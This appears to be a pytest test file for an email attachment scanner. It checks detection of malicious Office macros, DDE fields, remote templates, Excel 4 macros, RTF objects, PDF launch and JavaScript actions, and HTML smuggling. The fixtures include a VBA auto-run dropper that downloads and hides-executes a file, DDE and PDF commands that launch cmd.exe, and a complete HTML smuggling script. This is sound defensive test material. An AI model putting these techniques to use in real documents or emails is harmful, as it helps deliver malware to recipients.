"""Office macros, DDE, remote templates, XLM, RTF objects, PDF actions and HTML smuggling."""

import io

import pikepdf
import pytest

from mailward.evidence import Category, Severity
from mailward.unpack import Fact, Kind
from support.mail import mime_mail as message
from support.unpack import compound, compressed_rtf, ooxml, outlook_item, rtf_package, tnef, vba_project

DROPPER = """Sub AutoOpen()
    Dim path As String
    path = Environ("TEMP") & "\\a.exe"
    URLDownloadToFile 0, "http://127.0.0.1/a.exe", path, 0, 0
    Shell path, vbHide
End Sub
"""
HARMLESS_MACRO = """Sub FormatTable()
    Selection.Font.Bold = True
End Sub
"""


def found(evidence, name):
    return [f for f in evidence.findings if f.name == name]


def test_auto_exec_dropper_macro_is_high_and_located(scan):
    docm = ooxml("docm", {"word/vbaProject.bin": vba_project(DROPPER)})
    parsed, evidence = scan(message(attachments=[("invoice.docm", docm)]))
    [suspicious] = found(evidence, "vba-autoexec-suspicious")
    assert suspicious.category is Category.MALWARE and suspicious.severity is Severity.HIGH
    assert suspicious.location == "invoice.docm > word/vbaProject.bin"
    assert found(evidence, "vba-macros")[0].severity is Severity.INFO
    source = next(o for o in parsed.objects if o.path == "invoice.docm > word/vbaProject.bin > VBA source")
    assert b"URLDownloadToFile" in source.data  # YARA sees the decompressed code
    assert "mailward/documents:VBA_Download_And_Execute" in {f.name for f in evidence.findings}


def test_macro_presence_alone_is_information_only(scan):
    docm = ooxml("docm", {"word/vbaProject.bin": vba_project(HARMLESS_MACRO)})
    _, evidence = scan(message(attachments=[("table.docm", docm)]))
    macro = [f for f in evidence.findings if f.category is Category.MACRO]
    assert [f.name for f in macro] == ["vba-macros"] and macro[0].severity is Severity.INFO


def test_dde_field_in_word(scan):
    document = (
        b'<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
        b'<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
        b"</w:p></w:body></w:document>"
    )
    _, evidence = scan(message(attachments=[("letter.docx", ooxml("docx", {"word/document.xml": document}))]))
    [dde] = found(evidence, "dde-link")
    assert dde.severity is Severity.HIGH and dde.location == "letter.docx" and "cmd.exe" in dde.detail


def test_remote_template_injection(scan):
    rels = (
        b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://127.0.0.1/t.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    _, evidence = scan(message(attachments=[("cv.docx", ooxml("docx", {"word/_rels/settings.xml.rels": rels}))]))
    [template] = found(evidence, "remote-template")
    assert template.severity is Severity.HIGH and "http://127.0.0.1/t.dotm" in template.detail


def test_excel4_macro_sheet(scan):
    sheet = b'<xm:macrosheet><sheetData><row><c><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'
    _, evidence = scan(message(attachments=[("book.xlsm", ooxml("xlsm", {"xl/macrosheets/sheet1.xml": sheet}))]))
    assert found(evidence, "xlm-macros")[0].severity is Severity.MEDIUM


def test_rtf_equation_editor_object(scan):
    ole_hex = "01050000020000000b000000" + "4571756174696f6e2e3300" + "000000000000000010000000" + "00" * 16
    rtf = ("{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata " + ole_hex + "}}}").encode()
    _, evidence = scan(message(attachments=[("doc.rtf", rtf)]))
    names = {f.name for f in evidence.findings}
    assert "mailward/documents:RTF_Auto_Updating_Object" in names
    assert "equation-editor-object" in names or "mailward/documents:RTF_Equation_Editor_Object" in names


def _pdf(object_streams: bool = True, **actions) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    if "javascript" in actions:
        pdf.Root.OpenAction = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(actions["javascript"]))
        )
    if "launch" in actions:
        pdf.Root.OpenAction = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String(actions["launch"]))
        )
    if "embedded" in actions:
        name, data = actions["embedded"]
        stream = pikepdf.Stream(pdf, data)
        spec = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Filespec,
                F=pikepdf.String(name),
                UF=pikepdf.String(name),
                EF=pikepdf.Dictionary(F=stream),
            )
        )
        pdf.Root.Names = pikepdf.Dictionary(
            EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String(name), spec]))
        )
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(out, compress_streams=True, object_stream_mode=mode)
    return out.getvalue()


def test_plain_pdf_has_no_findings(scan):
    parsed, evidence = scan(message(attachments=[("report.pdf", _pdf())]))
    assert parsed.objects[1].kind is Kind.PDF
    assert not evidence.findings


def test_pdf_javascript_on_open(scan):
    parsed, evidence = scan(message(attachments=[("doc.pdf", _pdf(javascript="app.alert('x')"))]))
    assert found(evidence, "pdf-javascript")[0].severity is Severity.LOW
    assert found(evidence, "pdf-auto-action")[0].severity is Severity.MEDIUM
    script = next(o for o in parsed.objects if o.path == "doc.pdf > JavaScript")
    assert b"app.alert" in script.data


def test_pdf_launch_action(scan):
    _, evidence = scan(message(attachments=[("doc.pdf", _pdf(launch="cmd.exe"))]))
    assert found(evidence, "pdf-launch")[0].severity is Severity.HIGH  # seen inside object streams
    assert found(evidence, "pdf-auto-launch")[0].severity is Severity.HIGH
    _, raw = scan(message(attachments=[("doc.pdf", _pdf(object_streams=False, launch="cmd.exe"))]))
    assert "mailward/containers:PDF_Launch_Command" in {f.name for f in raw.findings}


def test_pdf_embedded_executable_goes_through_the_name_policy(scan):
    parsed, evidence = scan(message(attachments=[("doc.pdf", _pdf(embedded=("setup.exe", b"MZ" + b"\0" * 300)))]))
    assert "banned-extension" in {f.name for f in evidence.findings if f.location == "doc.pdf > setup.exe"}
    assert any(o.observations and o.observations[0].fact is Fact.PDF_EMBEDDED_FILE for o in parsed.objects)


SMUGGLER = """<html><body><script>
var data = "{payload}";
var bytes = Uint8Array.from(atob(data), c => c.charCodeAt(0));
var blob = new Blob([bytes], {{type: "application/octet-stream"}});
var a = document.createElement("a");
a.href = URL.createObjectURL(blob);
a.download = "invoice.iso";
document.body.appendChild(a);
a.click();
</script></body></html>"""


def test_html_smuggling_attachment(scan):
    import base64

    page = SMUGGLER.format(payload=base64.b64encode(bytes(range(256)) * 40).decode()).encode()
    _, evidence = scan(message(attachments=[("invoice.html", page)]))
    [smuggling] = found(evidence, "html-smuggling")
    assert smuggling.severity is Severity.HIGH and smuggling.location == "invoice.html"


def test_ordinary_html_with_script_is_not_smuggling(scan):
    page = (
        "<html><body><script>document.getElementById('x').onclick = function(){ window.open('/help'); };"
        "</script><p>" + "Quarterly results. " * 500 + "</p></body></html>"
    )
    _, evidence = scan(message(html=page))
    assert not found(evidence, "html-smuggling")


PE_STUB = b"MZ" + b"\x90" * 62 + b"This program cannot be run in DOS mode.\r\r\n$" + b"\0" * 200


def test_outlook_item_attachments_and_attached_items_are_members(scan):
    inner = outlook_item({"order.scr": PE_STUB}, subject="Order 7")
    item = compound(outlook_item({"invoice.exe": PE_STUB, "Order 7.msg": inner}, subject="Fwd"))
    parsed, evidence = scan(message(attachments=[("forward.msg", item)]))
    paths = {o.path for o in parsed.objects}
    assert {"forward.msg > invoice.exe", "forward.msg > Order 7/order.scr"} <= paths
    for member in ("invoice.exe", "Order 7/order.scr"):
        assert "banned-extension" in {f.name for f in evidence.findings if f.location == f"forward.msg > {member}"}


def test_outlook_item_rtf_body_is_decompressed_and_opened(scan):
    item = compound({"__substg1.0_10090102": compressed_rtf(rtf_package("invoice.exe", PE_STUB))})
    parsed, evidence = scan(message(attachments=[("note.msg", item)]))
    assert "banned-extension" in {
        f.name for f in evidence.findings if f.location == "note.msg > message body.rtf > invoice.exe"
    }


def test_compressed_rtf_of_the_specification_decompresses():
    from mailward.unpack.lzfu import decompress

    example = bytes.fromhex(
        "2d0000002b0000004c5a4675f1c5c7a703000a0072637067313235423 20af32068656c090020627705b06c647d0a800fa0".replace(
            " ", ""
        )
    )  # MS-OXRTFCP 3.1.1
    assert decompress(example, 1000) == (b"{\\rtf1\\ansi\\ansicpg1252\\pard hello world}\r\n", True)
    assert decompress(example, 10) == (b"{\\rtf1\\ans", False)


def test_tnef_rtf_body_is_read_like_an_rtf_attachment(scan):
    winmail = tnef({}, rtf_body=compressed_rtf(rtf_package("invoice.exe", PE_STUB)))
    parsed, evidence = scan(message(attachments=[("winmail.dat", winmail)]))
    location = "winmail.dat > winmail body.rtf > invoice.exe"
    assert "banned-extension" in {f.name for f in evidence.findings if f.location == location}


def _data_link(payload: bytes, mime: str = "application/octet-stream", download_first: bool = False, wrap: int = 0):
    import base64

    text = base64.b64encode(payload).decode()
    if wrap:
        text = "\n".join(text[i : i + wrap] for i in range(0, len(text), wrap))
    href = f'href="data:{mime};base64,{text}"'
    attributes = f'download="invoice.exe" {href}' if download_first else f'{href} download="invoice.exe"'
    return f"<html><body><p>Your invoice</p><a {attributes}>Download</a></body></html>".encode()


@pytest.mark.parametrize("variant", [{"download_first": True}, {"wrap": 76}, {"download_first": True, "wrap": 64}])
def test_data_uri_download_link_is_smuggling_however_written(scan, variant):
    page = _data_link(PE_STUB * 8, **variant)
    parsed, evidence = scan(message(attachments=[("invoice.html", page)]))
    assert found(evidence, "html-smuggling")[0].location == "invoice.html"
    member = next(o for o in parsed.objects if o.path == "invoice.html > invoice.exe")
    assert member.data == PE_STUB * 8  # decoded whole: YARA, ClamAV and the type checks see the file
    assert "banned-extension" in {f.name for f in evidence.findings if f.location == member.path}


def test_every_base64_data_uri_is_a_member(scan):
    page = _data_link(PE_STUB, mime="image/png") + b'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'
    parsed, evidence = scan(message(attachments=[("invoice.html", page)]))
    members = {o.path: o for o in parsed.objects if o.parent == "invoice.html"}
    assert members["invoice.html > invoice.exe"].declared_type == "image/png"
    assert members["invoice.html > data URI 2"].data.startswith(b"GIF89a")
    assert "banned-extension" in {f.name for f in evidence.findings if f.location == "invoice.html > invoice.exe"}
